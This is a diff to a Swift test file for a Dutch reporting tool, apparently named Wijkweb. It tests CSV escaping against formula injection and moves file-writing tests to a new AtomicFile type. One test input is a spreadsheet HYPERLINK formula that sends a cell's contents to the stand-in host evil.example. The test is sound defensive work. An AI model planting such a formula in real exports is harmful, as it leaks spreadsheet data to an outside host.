@@ -1,5 +1,6 @@
 import Foundation
 import Testing
+import WijkwebFiles
 import WijkwebCore
 @testable import WijkwebReports
 
@@ -144,6 +145,14 @@ import WijkwebCore
     #expect(ResponsesCSV.escape("a, b") == "\"a, b\"")
     #expect(ResponsesCSV.escape("zei \"ja\"") == "\"zei \"\"ja\"\"\"")
     #expect(ResponsesCSV.escape("regel\nregel") == "\"regel\nregel\"")
+    // The formula rule: every field starting like a formula gets a quote in front, then RFC 4180 quoting.
+    #expect(ResponsesCSV.escape("=2+3") == "'=2+3")
+    #expect(ResponsesCSV.escape("=HYPERLINK(\"http://evil.example/?id=\"&A2,\"Meer info\")")
+      == "\"'=HYPERLINK(\"\"http://evil.example/?id=\"\"&A2,\"\"Meer info\"\")\"")
+    for start in ["+", "-", "@", "\t"] { #expect(ResponsesCSV.escape(start + "1") == "'" + start + "1") }
+    #expect(ResponsesCSV.escape("\rx") == "\"'\rx\"")
+    #expect(ResponsesCSV.escape("a=b") == "a=b")
+    #expect(ResponsesCSV.escape("") == "")
     #expect(ResponsesCSV.codebookPath(for: "/tmp/uit.csv") == "/tmp/uit-codebook.csv")
     #expect(ResponsesCSV.codebookPath(for: "uit") == "uit-codebook.csv")
     #expect(ExportValue.decimal(7.0).plain == "7.0")
@@ -174,23 +183,22 @@ import WijkwebCore
     defer { try? FileManager.default.removeItem(atPath: folder) }
     let path = folder + "/uit.csv"
     do {
-      let destination = try ExportDestination(path: path, force: false)
-      let file = try OutputFile(path: destination.temporaryPath)
+      let file = try AtomicFile(path: path, force: false)
       try file.write("half")
-      try file.close()
+      try file.flush()
       #expect(!FileManager.default.fileExists(atPath: path))
       // Abandoned without commit: the temporary file goes, nothing appears.
     }
     #expect(try FileManager.default.contentsOfDirectory(atPath: folder).isEmpty)
-    let destination = try ExportDestination(path: path, force: false)
+    let destination = try AtomicFile(path: path, force: false)
     try "klaar".write(toFile: destination.temporaryPath, atomically: false, encoding: .utf8)
     try destination.commit()
     #expect(try String(contentsOfFile: path, encoding: .utf8) == "klaar")
-    #expect(throws: ExportError.self) { try ExportDestination(path: path, force: false) }
-    #expect(throws: ExportError.self) { try ExportDestination(path: folder + "/missing/uit.csv", force: false) }
-    #expect(throws: ExportError.self) { try ExportDestination(path: folder, force: false) }
-    #expect(throws: ExportError.self) { try ExportDestination(path: path + "/in-een-bestand.csv", force: false) }
-    let again = try ExportDestination(path: path, force: true)
+    #expect(throws: FileError.self) { try AtomicFile(path: path, force: false) }
+    #expect(throws: FileError.self) { try AtomicFile(path: folder + "/missing/uit.csv", force: false) }
+    #expect(throws: FileError.self) { try AtomicFile(path: folder, force: false) }
+    #expect(throws: FileError.self) { try AtomicFile(path: path + "/in-een-bestand.csv", force: false) }
+    let again = try AtomicFile(path: path, force: true)
     try "nieuw".write(toFile: again.temporaryPath, atomically: false, encoding: .utf8)
     try again.commit()
     #expect(try String(contentsOfFile: path, encoding: .utf8) == "nieuw")
